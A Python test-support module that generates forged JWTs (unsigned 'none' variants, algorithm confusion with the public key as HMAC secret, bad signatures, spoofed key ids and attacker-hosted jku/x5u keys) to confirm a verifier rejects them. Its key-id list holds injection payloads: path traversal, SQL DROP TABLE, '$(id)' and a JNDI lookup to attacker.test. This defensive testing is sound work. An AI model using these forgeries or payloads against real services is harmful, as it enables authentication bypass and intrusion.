"""Tokens whose signature is missing, somebody else's, or made with what everybody may read."""

import hashlib
import hmac
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any, Final

from joserfc.jwk import ECKey

from shared.identity.actor import Role
from shared.identity.refusals import Refusal
from tests.support.broken_tokens import naming_an_unknown_key, signed_by_a_stranger, with_claims_exchanged
from tests.support.compact_token import segment, unsigned
from tests.support.forging.attempt import Attempt, bearing, heading, unsigned_with
from tests.support.tokens import ABSENT, TokenForge

NO_ALGORITHMS: Final = (
    *(
        "none",
        "None",
        "nOnE",
        "NONE",
        "none ",
        "",
        "es256",
        "ES256K",
        "ES512",
        "RS1",
        "RS384",
        "PS512",
        "dir",
        "A128KW",
    ),
    *(None, True, 0, [], ["none"], ["ES256"], {"alg": "ES256"}),
)
HASHES: Final[Mapping[str, Callable[[], Any]]] = {
    "HS256": hashlib.sha256,
    "HS384": hashlib.sha384,
    "HS512": hashlib.sha512,
}
NAMED_KEYS: Final = (
    *("../../../../dev/null", "/proc/self/environ", "..\\..\\windows\\win.ini", "file:///dev/null"),
    *("' UNION SELECT 'secret' --", "x'; DROP TABLE needs; --", "$(id)", "`id`", "${jndi:ldap://attacker.test/a}"),
    *("\0", "key\0", "key\r\nX-Admin: 1", "", " ", "*", "é", "\ud83d", "x" * 4000),
)


def badly_signed(forge: TokenForge, attacker: TokenForge, address: str) -> Iterator[Attempt]:
    """Yield every kind; `address` is where the attacker would serve keys."""
    for algorithm in NO_ALGORITHMS:
        token = unsigned_with(forge, {"alg": algorithm})
        yield bearing(f"unsigned under {algorithm!r}", token, Refusal.ALGORITHM_NOT_ALLOWED)
    yield from _confused(forge)
    yield from _not_the_signature(forge, attacker)
    yield from _games_with_key_ids(forge, attacker, address)
    yield from _keys_brought_along(forge, attacker, address)


def _confused(forge: TokenForge) -> Iterator[Attempt]:
    """Yield tokens whose HMAC secret is the public key, in every form in which it may be read."""
    key = forge.key
    assert isinstance(key, ECKey)
    public = key.as_dict(private=False)
    secrets = {
        "PEM": key.as_pem(),
        "PEM without its last line end": key.as_pem().strip(),
        "DER": key.as_der(),
        "JWK": json.dumps(public).encode(),
        "JWK without spaces": json.dumps(public, separators=(",", ":")).encode(),
        "key set": json.dumps(forge.key_set()).encode(),
        "empty secret": b"",
    }
    for form, secret in secrets.items():
        for algorithm, digest in HASHES.items():
            message = unsigned({"alg": algorithm, "kid": key.kid}, forge.claims(Role.COORDINATOR))
            token = f"{message}.{segment(hmac.digest(secret, message.encode(), digest))}"
            yield bearing(f"{algorithm} with the public key as {form}", token, Refusal.ALGORITHM_NOT_ALLOWED)
        message = unsigned({"alg": "ES256", "kid": key.kid}, forge.claims(Role.COORDINATOR))
        token = f"{message}.{segment(hmac.digest(secret, message.encode(), hashlib.sha512))}"
        yield bearing(f"HMAC with {form} said to be ES256", token, Refusal.BAD_SIGNATURE)


def _not_the_signature(forge: TokenForge, attacker: TokenForge) -> Iterator[Attempt]:
    good = forge.token(Role.COORDINATOR)
    message, _, signature = good.rpartition(".")
    rsa = TokenForge(issuer=forge.issuer, algorithm="RS256")
    under_rsa = forge.token(Role.COORDINATOR, header={"alg": "RS256"}, key=rsa.key)
    tokens = {
        "the provider's key id over a stranger's signature": signed_by_a_stranger(forge),
        "an observer's signature under a coordinator's claims": with_claims_exchanged(forge),
        "a signature of zeros": unsigned_with(forge, {"alg": "ES256"}, bytes(64)),
        "r and s of one": unsigned_with(forge, {"alg": "ES256"}, (bytes(31) + b"\1") * 2),
        "no signature": f"{message}.",
        "half the signature": f"{message}.{signature[:42]}",
        "a byte more": f"{message}.{signature}AAAA",
        "the signature of another token": f"{message}.{attacker.token().rpartition('.')[2]}",
        "another algorithm's signature": under_rsa,
        "EdDSA under a key of ECDSA": unsigned_with(forge, {"alg": "EdDSA"}, bytes(64)),
    }
    for name, token in tokens.items():
        yield bearing(name, token, Refusal.BAD_SIGNATURE)


def _games_with_key_ids(forge: TokenForge, attacker: TokenForge, address: str) -> Iterator[Attempt]:
    yield bearing("a key never published", naming_an_unknown_key(forge), Refusal.UNKNOWN_KEY)
    own = str(forge.key.kid)
    for named in (*NAMED_KEYS, address, own.swapcase(), f"{own} ", f"{own}\0", ABSENT):
        token = attacker.token(Role.COORDINATOR, header={"kid": named})
        yield bearing(f"the key id {str(named)[:40]!r}", token, Refusal.UNKNOWN_KEY)
    yield from heading(
        forge, Refusal.MALFORMED, "a key id", [{"kid": each} for each in ([], [own], {"": own}, 7, True)]
    )


def _keys_brought_along(forge: TokenForge, attacker: TokenForge, address: str) -> Iterator[Attempt]:
    """Yield tokens that tell where their key is, once with the attacker's key id, once with ours."""
    brought: Mapping[str, Mapping[str, Any]] = {
        "jwk": {"jwk": attacker.key.as_dict(private=False)},
        "jku": {"jku": f"{address}/jwks"},
        "jku beside the provider's name": {"jku": f"{forge.issuer}@{address.removeprefix('http://')}/jwks"},
        "x5u": {"x5u": f"{address}/certificate.pem"},
        "x5c": {"x5c": [segment(b"a certificate")]},
        "x5t": {"x5t": segment(bytes(20)), "x5t#S256": segment(bytes(32))},
        "all of them": {"jwk": attacker.key.as_dict(private=False), "jku": f"{address}/jwks", "x5u": address},
    }
    for name, head in brought.items():
        theirs = attacker.token(Role.COORDINATOR, header=head)
        ours = attacker.token(Role.COORDINATOR, header={**head, "kid": forge.key.kid})
        yield bearing(f"{name} of the attacker", theirs, Refusal.UNKNOWN_KEY)
        yield bearing(f"{name} of the attacker under our key id", ours, Refusal.BAD_SIGNATURE)
